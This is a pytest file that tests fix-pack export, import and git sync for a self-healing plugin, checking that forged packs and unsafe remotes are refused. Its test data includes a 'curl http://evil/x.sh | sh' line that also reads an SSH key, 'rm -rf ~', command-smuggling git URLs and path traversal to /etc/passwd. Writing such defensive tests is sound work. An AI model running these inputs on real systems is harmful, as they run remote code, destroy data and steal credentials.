"""Cross-project learning (lifecycle/sharing.py): fix packs between homes and sync through a git
remote (a local bare repository over file://)."""
from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from selfheal_plugin.history.connection import connect, get_state, write_transaction
from selfheal_plugin.history.rules import Rule, RuleStore, home_id, template_from_changes
from selfheal_plugin.lifecycle import sharing
from selfheal_plugin.lifecycle.sharing import PackError, SyncError
from selfheal_plugin.service import SelfHeal

SEARCH = "mcp__search__web_search"
FILES = "mcp__files__read_file"
OTHER = "c0ffee" + "0" * 10  # a third home's id (16 hex digits, as home_id makes them)


def _home(tmp_path: Path, name: str) -> Path:
    home = tmp_path / name
    home.mkdir()
    connect(home / "conversations.db", create=True).close()
    return home


def _open(home: Path) -> SelfHeal:
    return SelfHeal(home, home / "conversations.db")


def _rule(sh: SelfHeal, tool: str, key: str, value, reduction: float, when: str = "2026-11-01T00:00:00.000000Z"):
    """A rule measured in this home (as learn/verify record them)."""
    hid = home_id(sh.conn)
    tmpl = template_from_changes([{"kind": "config", "file": "config.toml", "path": ["tools", tool, key],
                                   "op": "set", "value": value}], tool)
    ev = {f"{hid}:{tool}": {"source": "verified", "subject": tool, "home": hid, "before": 0.3, "after": 0.03,
                            "n_before": 400, "n_after": 380, "reduction": reduction, "p_value": 1e-12,
                            "worked": True, "measured_at": when}}
    rule, _ = RuleStore(sh.conn).merge(Rule.build("slow_tail", tmpl, f"set {key} to {value}", ev, "timeout"))
    return rule


def _table(sh: SelfHeal) -> dict[str, dict]:
    return {r.id: r.evidence for r in RuleStore(sh.conn).list()}


# ------------------------------------------------------------------ packs


def test_a_pack_round_trips_between_two_homes_and_importing_twice_changes_nothing(tmp_path):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        ra = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        rb = _rule(sb, FILES, "retry_attempts", 3, 0.6)
        pack = sa.export_pack()
        assert pack["format"] == "selfheal-fix-pack" and pack["version"] == 1 and pack["home"] == home_id(sa.conn)
        assert [r["id"] for r in pack["rules"]] == [ra.id]
        assert "enabled" not in pack["rules"][0] and str(a) not in json.dumps(pack)
        first = sb.import_pack(json.dumps(pack))
        assert [r["id"] for r in first["added"]] == [ra.id] and not first["updated"]
        table = _table(sb)
        assert set(table) == {ra.id, rb.id}
        (origin, entry), = table[ra.id].items()
        assert origin == f"{home_id(sa.conn)}:{SEARCH}" and entry["source"] == "imported"
        assert entry["n_before"] == 400 and entry["reduction"] == 0.9
        again = sb.import_pack(json.dumps(pack).encode())
        assert not again["added"] and not again["updated"] and [r["id"] for r in again["unchanged"]] == [ra.id]
        assert _table(sb) == table


def test_a_newer_measurement_updates_an_imported_entry(tmp_path):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        _rule(sa, SEARCH, "timeout_ms", 90000, 0.5)
        sb.import_pack(sa.export_pack())
        rule = _rule(sa, SEARCH, "timeout_ms", 90000, 0.95, when="2026-11-20T00:00:00.000000Z")
        r = sb.import_pack(sa.export_pack())
        assert [x["id"] for x in r["updated"]] == [rule.id]
        assert list(_table(sb)[rule.id].values())[0]["reduction"] == 0.95


def test_evidence_a_pack_claims_for_this_home_never_overwrites_ours(tmp_path):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        rb = _rule(sb, SEARCH, "timeout_ms", 90000, 0.9)
        ours = _table(sb)
        forged = sb.export_pack()
        forged["home"] = home_id(sa.conn)
        (origin,) = forged["rules"][0]["evidence"]
        forged["rules"][0]["evidence"][origin].update(reduction=0.0, worked=False,
                                                      measured_at="2026-11-25T00:00:00.000000Z")
        r = sb.import_pack(forged)
        assert r["own_entries_ignored"] == 1 and not r["added"] and not r["updated"]
        assert _table(sb) == ours and rb.id in ours


def _pack_with(sh: SelfHeal, **change) -> dict:
    pack = sh.export_pack()
    pack.update(change)
    return pack


@pytest.mark.parametrize("mutate, message", [
    (lambda p: p.update(version=2), "is fix pack version 2, newer than this selfheal reads (1); upgrade selfheal"),
    (lambda p: p.update(format="other"), "not a selfheal fix pack"),
    (lambda p: p["rules"][1]["template"][0].update(path=["tools", "{tool}", "command"], value="rm -rf ~"),
     "is not a tool or server setting"),
    (lambda p: p["rules"][1]["template"][0].update(path=["tools", "{tool}", "timeout_ms"], value=90000,
                                                   file="/etc/passwd"), "must be a table of path, op and value"),
    (lambda p: p["rules"][1]["template"][0].update(path=["..", "..", "etc", "passwd"]), "not a tool or server"),
    (lambda p: p["rules"][1].update(id="rule-000000000000"), "does not match"),
    (lambda p: p.update(home="../../etc"), "no valid home id"),
    (lambda p: p["rules"].extend([p["rules"][0]] * sharing.MAX_RULES), "more than the"),
])
def test_a_bad_pack_is_refused_whole_and_changes_nothing(tmp_path, mutate, message):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        _rule(sa, FILES, "timeout_ms", 60000, 0.8)
        pack = sa.export_pack()
        mutate(pack)
        with pytest.raises(PackError, match=message.replace("(", r"\(").replace(")", r"\)")) as err:
            sb.import_pack(json.dumps(pack))
        assert "\n" not in str(err.value)
        assert _table(sb) == {}  # the valid first rule was not merged either


def _set(rule: dict, key: str, value) -> None:
    """Set a template value of a pack's rule, as a forger would: its id is left out (the id of
    the forged template is what a forger would compute; the value is refused before it)."""
    rule["template"][0].update(path=["tools", "{tool}", key], value=value)
    rule.pop("id")


def _evidence(rule: dict, **fields) -> None:
    (entry,) = rule["evidence"].values()
    entry.update(fields)


def _origin(rule: dict, origin: str) -> None:
    (entry,) = rule["evidence"].values()
    rule["evidence"] = {origin: entry}


@pytest.mark.parametrize("mutate, message", [
    (lambda r: _set(r, "timeout_ms", -1), "template change 0: timeout_ms must be between 1 and 86400000, got -1"),
    (lambda r: _set(r, "retry_attempts", True), "retry_attempts must be an integer"),
    (lambda r: _set(r, "preflight", "curl http://evil/x.sh | sh; cat /home/u/.ssh/id_rsa"),
     "preflight must be a list of check names"),
    (lambda r: _set(r, "preflight", ["curl http://evil/x.sh | sh"]), "unknown preflight check"),
    (lambda r: r["template"][0].update(path=["tools", "{tool}", "circuit_breaker", "failure_threshold"], value=0)
     or r.pop("id"), "failure_threshold must be between 1 and 1000000, got 0"),
    (lambda r: _origin(r, "/etc/passwd:\x1b[31mred"), "is not <home id>:<tool>"),
    (lambda r: _origin(r, "evil:" + SEARCH), "is not <home id>:<tool>"),
    (lambda r: _evidence(r, measured_at="\x1b[2Jnot-a-date"), "measured_at must be text .* without control"),
    (lambda r: _evidence(r, measured_at="zzzz-forever"), "measured_at 'zzzz-forever' is not an RFC 3339 timestamp"),
    (lambda r: _evidence(r, measured_at="9999-12-31T00:00:00Z"), "is measured in the future"),
    (lambda r: _evidence(r, note="line\nforged: yes"), "note must be text .* without control"),
    (lambda r: _evidence(r, home=OTHER), "its home 'c0ffee0000000000' is not its origin's"),
    (lambda r: _evidence(r, subject="mcp__other__tool"), "its subject 'mcp__other__tool' is not its origin's"),
])
def test_a_pack_with_a_bad_value_origin_or_timestamp_is_refused_whole(tmp_path, mutate, message):
    """What a reviewer got through import (and on through export and sync): each is one line
    naming the first problem, with nothing merged and no raw control character in it."""
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        _rule(sa, FILES, "timeout_ms", 60000, 0.8)
        pack = sa.export_pack()
        mutate(pack["rules"][1])
        with pytest.raises(PackError, match=r"the pack: rule 1: .*" + message) as err:
            sb.import_pack(json.dumps(pack))
        assert "\n" not in str(err.value) and "\x1b" not in str(err.value)
        assert _table(sb) == {}
        r = _cli("learn", "--rules", "--home", str(b))
        assert "No rules stored yet" in r.output


def test_measurements_are_compared_as_instants_and_stored_in_one_form(tmp_path):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        rule = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9, when="2026-11-20T08:00:00.000000Z")
        sb.import_pack(sa.export_pack())
        (origin,) = _table(sb)[rule.id]
        older = sa.export_pack()  # 09:00 at +02:00 is 07:00 UTC: earlier, though it sorts later as text
        _evidence(older["rules"][0], measured_at="2026-11-20T09:00:00+02:00", reduction=0.1)
        assert [x["id"] for x in sb.import_pack(older)["unchanged"]] == [rule.id]
        newer = sa.export_pack()  # 08:30 UTC written as 09:30+01:00
        _evidence(newer["rules"][0], measured_at="2026-11-20T09:30:00+01:00", reduction=0.5)
        assert [x["id"] for x in sb.import_pack(newer)["updated"]] == [rule.id]
        entry = _table(sb)[rule.id][origin]
        assert (entry["reduction"], entry["measured_at"]) == (0.5, "2026-11-20T08:30:00.000000Z")


def test_a_pack_cannot_overwrite_another_homes_measurement(tmp_path):
    """C's pack claims A's origin with a later, worse measurement: B keeps A's own; a home
    that holds nothing for A's origin takes it as relayed, and A's own pack still updates it."""
    a, b, c, d = (_home(tmp_path, n) for n in "abcd")
    with _open(a) as sa, _open(b) as sb, _open(c) as sc, _open(d) as sd:
        rule = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        sb.import_pack(sa.export_pack())
        ours = _table(sb)
        (origin,) = ours[rule.id]
        forged = sa.export_pack()
        forged["home"] = home_id(sc.conn)
        _evidence(forged["rules"][0], worked=False, reduction=0.0, measured_at="2026-11-25T00:00:00Z")
        r = sb.import_pack(forged)
        assert [x["id"] for x in r["unchanged"]] == [rule.id] and _table(sb) == ours
        sd.import_pack(forged)  # nothing for A's origin yet: relayed, kept as told
        assert _table(sd)[rule.id][origin]["worked"] is False
        _rule(sa, SEARCH, "timeout_ms", 90000, 0.95, when="2026-11-26T00:00:00.000000Z")
        assert [x["id"] for x in sd.import_pack(sa.export_pack())["updated"]] == [rule.id]
        assert _table(sd)[rule.id][origin]["reduction"] == 0.95


def test_an_oversized_or_non_json_pack_is_refused(tmp_path):
    with _open(_home(tmp_path, "b")) as sb:
        with pytest.raises(PackError, match="larger than"):
            sb.import_pack(b" " * (sharing.MAX_PACK_BYTES + 1))
        with pytest.raises(PackError, match="not JSON"):
            sb.import_pack("{nope")
        with pytest.raises(PackError, match="larger than"):
            sb.import_pack({"format": sharing.FORMAT, "version": 1, "pad": "x" * sharing.MAX_PACK_BYTES})
        assert _table(sb) == {}


def test_a_failure_half_way_through_the_merge_rolls_every_rule_back(tmp_path, monkeypatch):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        _rule(sa, FILES, "timeout_ms", 60000, 0.8)

        class Broken:
            @property
            def id(self):
                raise RuntimeError("disk full")
        combine = sharing._combine
        monkeypatch.setattr(sharing, "_combine", lambda rules: [*combine(rules), Broken()])
        with pytest.raises(RuntimeError, match="disk full"):
            sb.import_pack(sa.export_pack())
        assert _table(sb) == {}  # the two rules merged before the failure were rolled back


# ------------------------------------------------------------------ sync


def _bare(tmp_path: Path) -> str:
    remote = tmp_path / "team.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    return remote.as_uri()


def _remote_packs(url: str, tmp_path: Path) -> list[str]:
    out = subprocess.run(["git", "--git-dir", url[len("file://"):], "ls-tree", "--name-only", "main", "packs/"],
                         capture_output=True, text=True, check=True).stdout
    return sorted(out.split())


@pytest.mark.parametrize("order", ["ab", "ba"])
def test_two_homes_sync_through_a_bare_remote_and_both_end_with_both_rules(tmp_path, order):
    url = _bare(tmp_path)
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        ra = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        rb = _rule(sb, FILES, "retry_attempts", 3, 0.6)
        shared = _rule(sa, FILES, "timeout_ms", 60000, 0.7)
        _rule(sb, FILES, "timeout_ms", 60000, 0.5)  # the same fix measured in both homes
        homes = {"a": sa, "b": sb}
        first, second = homes[order[0]], homes[order[1]]
        r1 = first.sync(url)
        assert r1["pushed"] and r1["packs_read"] == []
        r2 = second.sync(url)
        assert r2["pushed"] and len(r2["packs_read"]) == 1 and r2["added"]
        first.sync()  # the remembered remote
        second.sync()
        for sh in (sa, sb):
            table = _table(sh)
            assert set(table) == {ra.id, rb.id, shared.id}
            assert len(table[shared.id]) == 2  # evidence of both homes, per origin
            assert get_state(sh.conn, sharing.REMOTE_KEY) == url
        assert _remote_packs(url, tmp_path) == sorted(f"packs/{home_id(s.conn)}.json" for s in (sa, sb))
        before = (_table(sa), _table(sb))
        again = sa.sync()
        assert not again["pushed"] and not again["added"] and not again["updated"]
        assert (_table(sa), _table(sb)) == before
        clone = Path(again["clone"])
        assert clone.parent == a / "selfheal" / "sync" and (clone / "HEAD").is_file()
        assert not (clone / "packs").exists()  # bare: nothing from the remote is checked out


def test_a_lost_push_race_fetches_and_retries_once(tmp_path, monkeypatch):
    url = _bare(tmp_path)
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        ra = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        _rule(sb, FILES, "retry_attempts", 3, 0.6)
        sb.sync(url)
        late = _rule(sb, FILES, "timeout_ms", 60000, 0.5)  # pushed by B while A's sync runs
        raced = []

        def other_home_pushes_first():
            if not raced:
                raced.append(sb.sync())
        r = sharing.sync(sa.conn, sa.settings, url, sa.now(), before_push=other_home_pushes_first)
        assert r["attempts"] == 2 and r["pushed"] and raced[0]["pushed"]
        assert late.id in _table(sa)  # read on A's second attempt
        assert set(_table(sa)) == set(_table(sb)) | {ra.id}


def test_a_remote_that_refuses_the_push_changes_nothing(tmp_path):
    url = _bare(tmp_path)
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        _rule(sb, FILES, "retry_attempts", 3, 0.6)
        sa.sync(url)
        hook = Path(url[len("file://"):]) / "hooks" / "pre-receive"
        hook.write_text("#!/bin/sh\necho 'read-only mirror' >&2\nexit 1\n")
        hook.chmod(0o755)
        before = _table(sb)
        with pytest.raises(SyncError, match="refused our push: .*pre-receive hook declined.*nothing was changed") as err:
            sb.sync(url)
        assert "\n" not in str(err.value)
        assert _table(sb) == before and get_state(sb.conn, sharing.REMOTE_KEY) is None
        assert not sharing.clone_dir(b, url).exists()  # a first sync that failed leaves no clone


def test_a_missing_remote_changes_nothing(tmp_path):
    with _open(_home(tmp_path, "b")) as sb:
        _rule(sb, FILES, "retry_attempts", 3, 0.6)
        before = _table(sb)
        url = (tmp_path / "nowhere.git").as_uri()
        with pytest.raises(SyncError, match="fetching .* failed"):
            sb.sync(url)
        assert _table(sb) == before and get_state(sb.conn, sharing.REMOTE_KEY) is None
        with pytest.raises(SyncError, match="no sync remote yet"):
            sb.sync()


@pytest.mark.parametrize("url", [
    "ext::sh -c touch% /tmp/pwned", "fd::3", "-uhelp", "ftp://example.com/x.git", "ssh://-oProxyCommand=x/y",
    "relative/path", "file:///x y", "transport::whatever", "https://me:s3cret@example.com/team.git",
])
def test_dangerous_remotes_are_refused(tmp_path, url):
    with _open(_home(tmp_path, "b")) as sb:
        with pytest.raises(SyncError, match="refusing (a )?remote|one URL"):
            sb.sync(url)
        assert not (tmp_path / "b" / "selfheal" / "sync").exists()


def test_a_remembered_remote_needs_its_clone_here(tmp_path):
    url = _bare(tmp_path)
    with _open(_home(tmp_path, "b")) as sb:
        with write_transaction(sb.conn):  # a row someone else wrote into the history file
            sb.conn.execute("INSERT INTO selfheal_state (key, value) VALUES (?, ?)", (sharing.REMOTE_KEY, url))
        with pytest.raises(SyncError, match="has no clone in this home"):
            sb.sync()
        assert not sharing.clone_dir(tmp_path / "b", url).exists()


def test_a_pack_on_the_remote_that_is_a_symlink_or_junk_is_not_read(tmp_path):
    url = _bare(tmp_path)
    work = tmp_path / "evil"
    subprocess.run(["git", "clone", "-q", url, str(work)], check=True, capture_output=True)
    (work / "packs").mkdir()
    (work / "packs" / "link.json").symlink_to("/etc/passwd")
    (work / "packs" / "junk.json").write_text("not json")
    env = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x@x"}
    subprocess.run(["git", "-C", str(work), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(work), "commit", "-qm", "evil"], check=True, env={**os.environ, **env})
    subprocess.run(["git", "-C", str(work), "push", "-q", "origin", "HEAD:main"], check=True, capture_output=True)
    with _open(_home(tmp_path, "b")) as sb:
        rb = _rule(sb, FILES, "retry_attempts", 3, 0.6)
        r = sb.sync(url)
        assert r["pushed"] and r["packs_read"] == []
        assert [x["pack"] for x in r["packs_refused"]] == ["junk.json"]
        assert set(_table(sb)) == {rb.id}


def _push_file(url: str, tmp_path: Path, name: str, content: str) -> None:
    """Commit ``packs/<name>`` on the remote's main, as any home with push access could."""
    work = tmp_path / f"push-{name}"
    subprocess.run(["git", "clone", "-q", "-b", "main", url, str(work)], check=True, capture_output=True)
    (work / "packs").mkdir(exist_ok=True)
    (work / "packs" / name).write_text(content)
    env = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x@x"}
    subprocess.run(["git", "-C", str(work), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(work), "commit", "-qm", name], check=True, env={**os.environ, **env})
    subprocess.run(["git", "-C", str(work), "push", "-q", "origin", "HEAD:main"], check=True, capture_output=True)


def test_a_remote_pack_under_another_name_or_claiming_another_homes_measurement_is_not_taken(tmp_path):
    url = _bare(tmp_path)
    a, b, c = _home(tmp_path, "a"), _home(tmp_path, "b"), _home(tmp_path, "c")
    with _open(a) as sa, _open(b) as sb, _open(c) as sc:
        rule = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        sa.sync(url)
        other = _rule(sc, FILES, "retry_attempts", 3, 0.6)
        misnamed = json.dumps(sc.export_pack())
        _push_file(url, tmp_path, "cmd.json", misnamed)  # C's pack, but not under C's id
        forged = sa.export_pack()  # C claims A's origin: later, and it did not work
        forged["home"] = home_id(sc.conn)
        _evidence(forged["rules"][0], worked=False, reduction=0.0, measured_at="2026-11-25T00:00:00Z")
        _push_file(url, tmp_path, f"{home_id(sc.conn)}.json", json.dumps(forged))
        r = sb.sync(url)
        (refused,) = r["packs_refused"]
        assert refused["pack"] == "cmd.json" and "holds the pack of home " + home_id(sc.conn) in refused["reason"]
        assert other.id not in _table(sb)
        (entry,) = _table(sb)[rule.id].values()
        assert entry["worked"] is True and entry["reduction"] == 0.9  # A's own pack speaks for A


# ------------------------------------------------------------------ shells


def _cli(*args: str, input: bytes | None = None):
    from click.testing import CliRunner

    from selfheal_plugin.cli.main import agent

    return CliRunner().invoke(agent, ["self-heal", *args], input=input)


def test_the_cli_exports_imports_and_syncs_with_one_line_errors(tmp_path):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa:
        ra = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
    out = tmp_path / "pack.json"
    r = _cli("export", "--home", str(a), "-o", str(out))
    assert r.exit_code == 0 and "Wrote 1 rule(s)" in r.output
    stdout = _cli("export", "--home", str(a))
    assert json.loads(stdout.output)["rules"] == json.loads(out.read_text())["rules"]
    r = _cli("import", str(out), "--home", str(b), "--json")
    assert r.exit_code == 0 and [x["id"] for x in json.loads(r.output)["added"]] == [ra.id]
    r = _cli("import", "-", "--home", str(b), input=out.read_bytes())
    assert r.exit_code == 0 and "0 added, 0 updated, 1 unchanged" in r.output
    newer = json.loads(out.read_text()) | {"version": 2}
    bad = {"missing": (["import", str(tmp_path / "nope.json")], None, "cannot read"),
           "not json": (["import", "-"], b"{", "is not JSON"),
           "format": (["import", "-"], b'{"format": "x"}', "not a selfheal fix pack"),
           "newer": (["import", "-"], json.dumps(newer).encode(), "is fix pack version 2, newer"),
           "remote": (["sync", "--remote", str((tmp_path / "none.git").as_uri())], None, "failed"),
           "no remote": (["sync"], None, "no sync remote yet"),
           "ext": (["sync", "--remote", "ext::sh"], None, "refusing remote")}
    with _open(b) as sb:
        before = _table(sb)
    for name, (args, stdin, message) in bad.items():
        r = _cli(*args, "--home", str(b), input=stdin)
        assert r.exit_code == 1, (name, r.output)
        assert message in r.output and r.output.count("\n") == 1 and "Traceback" not in r.output, name
    with _open(b) as sb:
        assert _table(sb) == before
    url = _bare(tmp_path)
    r = _cli("sync", "--remote", url, "--home", str(b))
    assert r.exit_code == 0 and "pushed our pack" in r.output, r.output
    r = _cli("sync", "--home", str(b), "--json")
    assert r.exit_code == 0 and json.loads(r.output)["remote"] == url


def test_import_and_sync_wrap_long_lines_under_their_indent_at_80_columns(tmp_path, monkeypatch):
    a, b, c, d = (_home(tmp_path, name) for name in "abcd")
    with _open(a) as sa:
        tmpl = template_from_changes([{"kind": "config", "file": "config.toml", "path": ["tools", SEARCH, "timeout_ms"],
                                       "op": "set", "value": 90000}], SEARCH)
        ev = {f"{OTHER}:x": {"source": "learned", "worked": True, "measured_at": "2026-11-01T00:00:00Z"}}
        RuleStore(sa.conn).merge(Rule.build("slow_tail", tmpl, "raise the timeout of the web search tool to what "
                                            "its slow calls need, measured over a week of runs", ev))
    pack = _cli("export", "--home", str(a)).output.encode()
    url = _bare(tmp_path)
    assert _cli("sync", "--remote", url, "--home", str(a)).exit_code == 0

    def wrapped(output: str) -> list[str]:
        lines = output.splitlines()
        assert len(lines) > 2 and all(len(line) <= 80 for line in lines), output
        assert all(line.startswith("  ") for line in lines[1:]), output  # continuations under their indent
        return lines

    monkeypatch.setenv("COLUMNS", "80")
    imported = _cli("import", "-", "--home", str(b), input=pack)
    assert imported.exit_code == 0, imported.output
    lines = wrapped(imported.output)
    rule_at = next(i for i, line in enumerate(lines) if line.startswith("  + rule-"))
    assert lines[rule_at + 1].startswith("    ") and not lines[rule_at + 1].startswith("     ")
    synced = _cli("sync", "--remote", url, "--home", str(c))
    assert synced.exit_code == 0, synced.output
    assert "Synced with" in wrapped(synced.output)[0]
    monkeypatch.delenv("COLUMNS")  # piped, no COLUMNS: each line whole, for grep
    again = _cli("import", "-", "--home", str(d), input=pack)
    assert again.exit_code == 0 and any(line.startswith("  ") and "measured over a week of runs" in line
                                        and "web search tool" in line for line in again.output.splitlines())


def test_pack_text_is_escaped_when_the_cli_shows_it(tmp_path):
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa:
        tool = SEARCH
        tmpl = template_from_changes([{"kind": "config", "file": "config.toml", "path": ["tools", tool, "timeout_ms"],
                                       "op": "set", "value": 1}], tool)
        ev = {f"{OTHER}:x": {"source": "learned", "worked": True, "measured_at": "2026-11-01T00:00:00Z"}}
        RuleStore(sa.conn).merge(Rule.build("slow_tail", tmpl, "raise \x1b[31mred\x1b[0m it", ev))
    pack = _cli("export", "--home", str(a)).output
    r = _cli("import", "-", "--home", str(b), input=pack.encode())
    assert r.exit_code == 0 and "\x1b" not in r.output and "\\x1b[31mred" in r.output


def test_mcp_tools_share_packs_and_read_only_serves_export_only(tmp_path):
    import anyio
    from mcp import Client

    from selfheal_plugin.mcp.access import restrict_to_read_only
    from selfheal_plugin.mcp.server import build_server

    from .mcp_helpers import error_text, structured

    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa:
        ra = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)

    async def calls(server, *items):
        async with Client(server) as client:
            return [await client.call_tool(name, args) for name, args in items]

    async def tools(server):
        async with Client(server) as client:
            return {t.name: t for t in (await client.list_tools()).tools}

    listed = anyio.run(tools, build_server(a))
    assert listed["export_fix_pack"].annotations.read_only_hint is True
    assert listed["import_fix_pack"].annotations.read_only_hint is False
    assert listed["sync_fix_packs"].input_schema.get("properties", {}) == {}  # a client cannot pick a remote
    (pack,) = anyio.run(calls, build_server(a, a / "conversations.db"), ("export_fix_pack", {}))
    pack = structured(pack)
    imported, again, newer, sync = anyio.run(
        calls, build_server(b, b / "conversations.db"), ("import_fix_pack", {"pack": json.dumps(pack)}),
        ("import_fix_pack", {"pack": pack}), ("import_fix_pack", {"pack": {**pack, "version": 9}}),
        ("sync_fix_packs", {}))
    assert [x["id"] for x in structured(imported)["added"]] == [ra.id]
    assert not structured(again)["added"] and not structured(again)["updated"]
    assert error_text(newer).endswith(" is fix pack version 9, newer than this selfheal reads (1); upgrade selfheal")
    assert "no sync remote yet" in error_text(sync)
    ro = build_server(b, b / "conversations.db")
    restrict_to_read_only(ro)
    assert {"export_fix_pack"} <= set(anyio.run(tools, ro)) and not {"import_fix_pack", "sync_fix_packs"} & set(
        anyio.run(tools, ro))


def test_a_sync_reads_a_bounded_number_of_packs(tmp_path, monkeypatch):
    url = _bare(tmp_path)
    homes = [_home(tmp_path, n) for n in ("a", "b", "c")]
    for h in homes[:2]:
        with _open(h) as sh:
            _rule(sh, SEARCH, "timeout_ms", 90000, 0.9)
            sh.sync(url)
    monkeypatch.setattr(sharing, "MAX_PACKS", 1)
    with _open(homes[2]) as sc:
        r = sc.sync(url)
        assert len(r["packs_read"]) == 1 and "over the limit" in r["packs_refused"][0]["reason"]


def test_the_daemon_syncs_on_its_schedule_only_when_a_remote_is_set(tmp_path):
    from selfheal_plugin.daemon.loop import Daemon
    from selfheal_plugin.history.settings import load_settings

    url = _bare(tmp_path)
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa:
        ra = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        sa.sync(url)
    daemon = Daemon(load_settings(b, b / "conversations.db"))
    try:
        report = daemon.tick()
        assert report.synced == [] and report.errors == []  # no remote set: nothing shared
        with _open(b) as sb:
            sb.sync(url)
            _rule(sb, FILES, "retry_attempts", 3, 0.6)
        with _open(a) as sa:
            _rule(sa, FILES, "timeout_ms", 60000, 0.7)
            sa.sync()
        report = daemon.tick()
        assert report.errors == [] and report.synced[0]["remote"] == url and report.synced[0]["added"] == 1
        assert "1 fix pack sync(s)" in report.summary()
        hook = Path(url[len("file://"):]) / "hooks" / "pre-receive"
        hook.write_text("#!/bin/sh\nexit 1\n")
        hook.chmod(0o755)
        with _open(b) as sb:
            _rule(sb, SEARCH, "retry_attempts", 2, 0.5)
        report = daemon.tick()
        assert report.synced == [] and len(report.errors) == 1 and report.errors[0].startswith("sync: ")
    finally:
        daemon.close()
    with _open(b) as sb:
        assert ra.id in _table(sb)


def test_a_rule_without_evidence_is_shared_too(tmp_path):
    url = _bare(tmp_path)
    homes = [_home(tmp_path, n) for n in ("a", "b", "c")]
    ids = set()
    for i, h in enumerate(homes):
        with _open(h) as sh:
            tmpl = [{"path": ["tools", "{tool}", "timeout_ms"], "op": "set", "value": 5000 + i}]
            ids.add(RuleStore(sh.conn).merge(Rule.build("slow_tail", tmpl, "a rule nobody measured yet", {}))[0].id)
    for _ in range(2):
        for h in homes:
            with _open(h) as sh:
                sh.sync(url)
    for h in homes:
        with _open(h) as sh:
            assert set(_table(sh)) == ids


def test_an_export_stays_importable_when_a_home_has_more_rules_than_a_pack_holds(tmp_path, monkeypatch):
    monkeypatch.setattr(sharing, "MAX_RULES", 2)
    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa, _open(b) as sb:
        for i in range(3):
            _rule(sa, SEARCH, "timeout_ms", 1000 + i, 0.5)
        pack, skipped = sharing.export_pack(sa.conn, sa.now())
        assert len(pack["rules"]) == 2 and skipped == 1
        assert len(sb.import_pack(pack)["added"]) == 2


def test_the_installed_command_pipes_a_pack_from_one_home_to_another(tmp_path):
    from .conftest import run_agent

    a, b = _home(tmp_path, "a"), _home(tmp_path, "b")
    with _open(a) as sa:
        ra = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
    exported = run_agent("self-heal", "export", "--home", str(a))
    assert exported.returncode == 0 and exported.stderr == ""
    imported = run_agent("self-heal", "import", "-", "--home", str(b), "--json", input=exported.stdout)
    assert imported.returncode == 0 and [r["id"] for r in json.loads(imported.stdout)["added"]] == [ra.id]
    newer = run_agent("self-heal", "import", "-", "--home", str(b),
                      input=json.dumps(json.loads(exported.stdout) | {"version": 2}))
    assert newer.returncode == 1 and newer.stdout == ""
    assert newer.stderr.startswith("Error: ") and newer.stderr.count("\n") == 1  # one line, naming where it came from
    assert newer.stderr.endswith(" is fix pack version 2, newer than this selfheal reads (1); upgrade selfheal\n")


def test_a_stored_rule_whose_value_the_runtime_refuses_is_not_exported(tmp_path):
    """The rule table is in a file other programs can write: a row with timeout_ms = -1 (or a
    shell line as preflight) stays out of the pack, so a sync cannot pass it on."""
    with _open(_home(tmp_path, "a")) as sa:
        good = _rule(sa, SEARCH, "timeout_ms", 90000, 0.9)
        bad = _rule(sa, FILES, "timeout_ms", 60000, 0.8)
        forged = [{"path": ["tools", "{tool}", "timeout_ms"], "op": "set", "value": -1}]
        key = json.dumps(["slow_tail", forged], sort_keys=True, separators=(",", ":"))
        forged_id = "rule-" + hashlib.sha256(key.encode()).hexdigest()[:12]  # what rule_id() would say
        with write_transaction(sa.conn):
            sa.conn.execute("UPDATE selfheal_rules SET template = ?, id = ? WHERE id = ?",
                            (json.dumps(forged), forged_id, bad.id))
        pack, skipped = sharing.export_pack(sa.conn, sa.now())
        assert [r["id"] for r in pack["rules"]] == [good.id] and skipped == 1


def test_the_sharing_page_quotes_the_refusal_of_a_newer_pack_and_names_the_clone_folder(tmp_path):
